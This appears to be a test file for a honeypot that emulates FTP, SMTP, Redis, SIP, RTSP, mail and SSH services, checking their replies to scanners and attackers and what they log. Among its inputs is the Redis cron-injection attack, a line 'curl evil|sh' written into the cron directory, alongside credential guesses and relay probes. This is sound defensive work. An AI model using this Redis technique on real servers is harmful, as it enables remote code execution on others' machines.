/** [what they send, what we answer, what we saw], with the bytes as real clients and bots send them: protocols of lines. */
import { expect, test } from 'vitest';
import { createFtpTrap } from '#enforcer/traps/protocols/ftp.ts';
import { createRsyncTrap, createSshGreetingTrap } from '#enforcer/traps/protocols/greeting.ts';
import type { Observation } from '#enforcer/traps/protocols/machine.ts';
import { createImapTrap, createPop3Trap } from '#enforcer/traps/protocols/mailbox.ts';
import { createMemcachedTrap } from '#enforcer/traps/protocols/memcached.ts';
import { createRedisTrap } from '#enforcer/traps/protocols/redis.ts';
import { createRtspTrap } from '#enforcer/traps/protocols/rtsp.ts';
import { createSipTrap } from '#enforcer/traps/protocols/sip.ts';
import { createSmtpTrap } from '#enforcer/traps/protocols/smtp.ts';
import { contextOf, personaWith, table, talk } from '#test/support/trap-talk.ts';

const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');

const vsftpd = personaWith(persona => persona.software.ftp === 'vsftpd');
table('vsftpd', createFtpTrap, 21, vsftpd, [
  {
    name: 'a log-in of curl is logged and refused',
    sent: ['USER anonymous\r\n', 'PASS ftp@example.com\r\n'],
    answered: /^331 Please specify the password\.\r\n530 Login incorrect\.\r\n$/,
    saw: [{ kind: 'credentials', user: 'anonymous', secret: 'ftp@example.com' }],
  },
  {
    name: 'hydra hangs up never: the third wrong password does it for it',
    sent: ['USER root\r\nPASS 1\r\nUSER root\r\nPASS 2\r\n', 'USER root\r\n', 'PASS  two words \r\n'],
    answered: /530 Login incorrect\.\r\n$/,
    saw: [{ secret: '1' }, { secret: '2' }, { user: 'root', secret: ' two words ' }] as Partial<Observation>[],
    closed: true,
  },
  {
    name: 'a command before log-in is a command seen',
    sent: ['SYST\r\n'],
    answered: /^530 Please login with USER and PASS\.\r\n$/,
    saw: [{ kind: 'command', line: 'SYST' }],
  },
  {
    name: 'FEAT lists what vsftpd has',
    sent: ['FEAT\r\n'],
    answered: /^211-Features:\r\n EPRT\r\n[\s\S]*\r\n211 End\r\n$/,
    saw: [{ kind: 'command', line: 'FEAT' }],
  },
  { name: 'TLS is not offered where the driver has none', sent: ['AUTH TLS\r\n'], answered: /^530 /, saw: [{ kind: 'command' }] },
  { name: 'binary is called so', sent: ['\x16\x03\x01\x02\x00\n'], answered: /^530 /, saw: [{ kind: 'malformed' }] },
  { name: 'QUIT', sent: ['QUIT\r\n'], answered: /^221 Goodbye\.\r\n$/, saw: [{ kind: 'command' }], closed: true },
]);

const proftpd = personaWith(persona => persona.software.ftp === 'proftpd');
table('proftpd', createFtpTrap, 21, proftpd, [
  {
    name: 'HELP, by which nmap knows it, and what it does not know',
    sent: ['HELP\r\n', 'GET / HTTP/1.0\r\n', 'LIST\r\n'],
    answered:
      /^214-The following commands are recognized \(\* =>'s unimplemented\):\r\n CWD {5}XCWD [\s\S]*214 Direct comments to root@\S+\r\n500 GET not understood\r\n530 Please login with USER and PASS\r\n$/,
    saw: [{ kind: 'command' }, { kind: 'command' }, { kind: 'command' }],
  },
]);

const postfix = personaWith(persona => persona.software.smtp === 'postfix');
table('postfix', createSmtpTrap, 25, postfix, [
  {
    name: 'AUTH LOGIN of a guesser',
    sent: ['EHLO x\r\n', 'AUTH LOGIN\r\n', `${base64('admin')}\r\n`, `${base64('secret')}\r\n`],
    answered: /334 VXNlcm5hbWU6\r\n334 UGFzc3dvcmQ6\r\n535 5\.7\.8 Error: authentication failed/,
    saw: [
      { kind: 'command', line: 'EHLO x' },
      { kind: 'credentials', user: 'admin', secret: 'secret' },
    ],
  },
  {
    name: 'AUTH PLAIN with its initial response, as curl sends it',
    sent: ['EHLO x\r\n', `AUTH PLAIN ${base64('\0u\0p')}\r\n`],
    answered: /535 5\.7\.8 /,
    saw: [{ kind: 'command' }, { kind: 'credentials', user: 'u', secret: 'p' }],
  },
  {
    name: 'an open relay test is refused, mail for this host is kept from its beginning',
    sent: ['HELO x\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@example.com>\r\nRCPT TO:<root@localhost>\r\nDATA\r\n', 'Subject: hi\r\n\r\nbody\r\n.\r\n'],
    answered: /454 4\.7\.1 <c@example\.com>: Relay access denied\r\n250 2\.1\.5 Ok\r\n354 [^\r]*\r\n250 2\.0\.0 Ok: queued as [0-9A-F]{11}\r\n$/,
    saw: [
      { kind: 'command' },
      { kind: 'command' },
      { kind: 'command' },
      { kind: 'command' },
      { kind: 'command' },
      { kind: 'payload', name: 'mail', content: 'Subject: hi\n\nbody\n' },
    ],
  },
  {
    name: 'HTTP at the wrong door',
    sent: ['GET / HTTP/1.0\r\n\r\n'],
    answered: /^221 2\.7\.0 Error: I can break rules/,
    saw: [{ kind: 'command' }],
    closed: true,
  },
]);

const modern = personaWith(persona => persona.versions.redis === '7.0.15');
table('redis', createRedisTrap, 6379, modern, [
  {
    name: 'redis-cli says hello',
    sent: ['*2\r\n$7\r\nCOMMAND\r\n$4\r\nDOCS\r\n', '*1\r\n$4\r\nPING\r\n'],
    answered: /^\*0\r\n\+PONG\r\n$/,
    saw: [
      { kind: 'command', line: 'COMMAND DOCS' },
      { kind: 'command', line: 'PING' },
    ],
  },
  {
    name: "nmap's probe learns the version",
    sent: ['*1\r\n$4\r\ninfo\r\n'],
    answered: /^\$\d+\r\n# Server\r\nredis_version:7\.0\.15\r\n/,
    saw: [{ kind: 'command', line: 'info' }],
  },
  {
    name: 'the cron trick of cryptominers is a payload, and reads back',
    sent: [
      'SET x "1"\r\n',
      '*3\r\n$3\r\nset\r\n$1\r\nx\r\n$26\r\n\n* * * * * curl evil|sh\n\n\n\r\n',
      'CONFIG SET dir /var/spool/cron\r\n',
      'get x\r\n',
      'save\r\n',
    ],
    answered: /^\+OK\r\n\+OK\r\n\+OK\r\n\$26\r\n\n\* \* \* \* \* curl evil\|sh\n\n\n\r\n\+OK\r\n$/,
    saw: [
      { kind: 'command' },
      { kind: 'payload', name: 'redis x' },
      { kind: 'command' },
      { kind: 'payload', content: '\n* * * * * curl evil|sh\n\n\n' },
      { kind: 'command', line: 'CONFIG SET dir /var/spool/cron' },
      { kind: 'command' },
      { kind: 'command' },
    ],
  },
  {
    name: 'a guessed password',
    sent: ['AUTH hunter2\r\n'],
    answered: /^-ERR AUTH <password> called without any password/,
    saw: [{ kind: 'credentials', user: 'default', secret: 'hunter2' }],
  },
  {
    name: 'nonsense in an array',
    sent: ['*1\r\n!4\r\n'],
    answered: /^-ERR Protocol error: expected '\$', got '!'\r\n$/,
    saw: [{ kind: 'malformed' }],
    closed: true,
  },
  {
    name: 'a length beyond the bound is refused before it is waited for',
    sent: ['*2\r\n$3\r\nSET\r\n$99999999\r\n'],
    answered: /^-ERR Protocol error: invalid bulk length/,
    saw: [{ kind: 'malformed' }],
    closed: true,
  },
  { name: 'a cross-protocol request is cut off without a word', sent: ['POST / HTTP/1.1\r\n'], answered: /^$/, saw: [{ kind: 'command' }], closed: true },
  {
    name: 'names of JavaScript are no commands',
    sent: ['INFO constructor\r\n__proto__ x\r\nCONFIG GET toString\r\n'],
    answered: /^\$0\r\n\r\n-ERR unknown command '__proto__', with args beginning with: 'x' \r\n\*0\r\n$/,
    saw: [{}, {}, {}],
  },
]);

table('memcached', createMemcachedTrap, 11211, modern, [
  {
    name: 'stats',
    sent: ['stats\r\n'],
    answered: /^STAT pid \d+\r\nSTAT uptime \d+\r\nSTAT time \d+\r\nSTAT version 1\.6\.\d+\r\n[\s\S]*END\r\n$/,
    saw: [{ kind: 'command', line: 'stats' }],
  },
  {
    name: 'a value put in comes out',
    sent: ['set k 0 900 5\r\nhel', 'lo\r\nget k\r\n'],
    answered: /^STORED\r\nVALUE k 0 5\r\nhello\r\nEND\r\n$/,
    saw: [{ kind: 'command' }, { kind: 'payload', name: 'memcached k', content: 'hello' }, { kind: 'command' }],
  },
  {
    name: 'an object too large',
    sent: ['set k 0 0 99999999\r\n'],
    answered: /^SERVER_ERROR object too large for cache\r\n$/,
    saw: [{ kind: 'command' }],
    closed: true,
  },
  { name: 'anything else', sent: ['GET / HTTP/1.0\r\n'], answered: /^ERROR\r\n$/, saw: [{ kind: 'command' }] },
]);

const sipOptions =
  'OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n';
table('sip', createSipTrap, 5060, modern, [
  {
    name: "nmap's OPTIONS",
    sent: [sipOptions],
    answered:
      /^SIP\/2\.0 200 OK\r\nVia: SIP\/2\.0\/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>;tag=as[0-9a-f]{8}\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nServer: Asterisk PBX /,
    saw: [{ kind: 'request', method: 'OPTIONS' }],
  },
  {
    name: 'a registration is challenged, then refused',
    sent: [
      'REGISTER sip:192.0.2.10 SIP/2.0\r\nVia: SIP/2.0/TCP a\r\n\r\n',
      'REGISTER sip:192.0.2.10 SIP/2.0\r\nAuthorization: Digest username="100", realm="asterisk", response="abc123"\r\n\r\n',
    ],
    answered: /401 Unauthorized[\s\S]*WWW-Authenticate: Digest algorithm=MD5[\s\S]*SIP\/2\.0 403 Forbidden/,
    saw: [{ kind: 'request' }, { kind: 'request' }, { kind: 'credentials', user: '100', secret: 'abc123', scheme: 'digest' }],
  },
]);

table('rtsp', createRtspTrap, 554, modern, [
  {
    name: 'a player asks what there is',
    sent: ['OPTIONS rtsp://192.0.2.10/ RTSP/1.0\r\nCSeq: 1\r\n\r\n'],
    answered: /^RTSP\/1\.0 200 OK\r\nCSeq: 1\r\nPublic: OPTIONS/,
    saw: [{ kind: 'request' }],
  },
  {
    name: 'a guess at a camera',
    sent: [`DESCRIBE rtsp://192.0.2.10/11 RTSP/1.0\r\nCSeq: 2\r\nAuthorization: Basic ${base64('admin:12345')}\r\n\r\n`],
    answered: /^RTSP\/1\.0 401 Unauthorized\r\nCSeq: 2\r\nWWW-Authenticate: Digest realm="[^"]+", nonce="[0-9a-f]+"\r\n/,
    saw: [{ kind: 'request' }, { kind: 'credentials', user: 'admin', secret: '12345' }],
  },
]);

table('pop3', createPop3Trap, 110, modern, [
  {
    name: 'USER and PASS',
    sent: ['USER bob\r\n', 'PASS s3 cret\r\n'],
    answered: /^\+OK\r\n-ERR \[AUTH\] Authentication failed\.\r\n$/,
    saw: [{ kind: 'credentials', user: 'bob', secret: 's3 cret' }],
  },
]);

table('imap', createImapTrap, 143, modern, [
  {
    name: 'LOGIN with quotes',
    sent: ['a1 LOGIN bob "s3 \\"cret"\r\n'],
    answered: /^a1 NO \[AUTHENTICATIONFAILED\] /,
    saw: [{ kind: 'credentials', user: 'bob', secret: 's3 "cret' }],
  },
  {
    name: 'LOGIN with literals',
    sent: ['a1 LOGIN {3}\r\n', 'bob {6}\r\n', 's3cret\r\n'],
    answered: /^\+ OK\r\n\+ OK\r\na1 NO /,
    saw: [{ kind: 'credentials', user: 'bob', secret: 's3cret' }],
  },
]);

table('ssh', createSshGreetingTrap, 22, modern, [
  {
    name: "the client's identification marks it",
    sent: ['SSH-2.0-Go\r\n'],
    answered: /^$/,
    saw: [{ kind: 'fingerprint', name: 'ssh-client', value: 'SSH-2.0-Go' }],
  },
]);
table('rsync', createRsyncTrap, 873, modern, [
  {
    name: 'a list of nothing',
    sent: ['@RSYNCD: 31.0\n', '#list\n'],
    answered: /^@RSYNCD: EXIT\n$/,
    saw: [{ kind: 'fingerprint' }, { kind: 'command', line: '#list' }],
    closed: true,
  },
]);

test('with TLS the ClientHello after AUTH TLS is handed over, and nothing that was sent in clear is taken from inside', () => {
  const { answer, last } = talk(createFtpTrap, contextOf(21, { persona: vsftpd, tls: true }), ['AUTH TLS\r\n', 'USER root\r\n']);
  expect(answer).toBe('234 Proceed with negotiation.\r\n');
  expect(last).toMatchObject({ close: true, observations: [{ kind: 'malformed' }] });
});
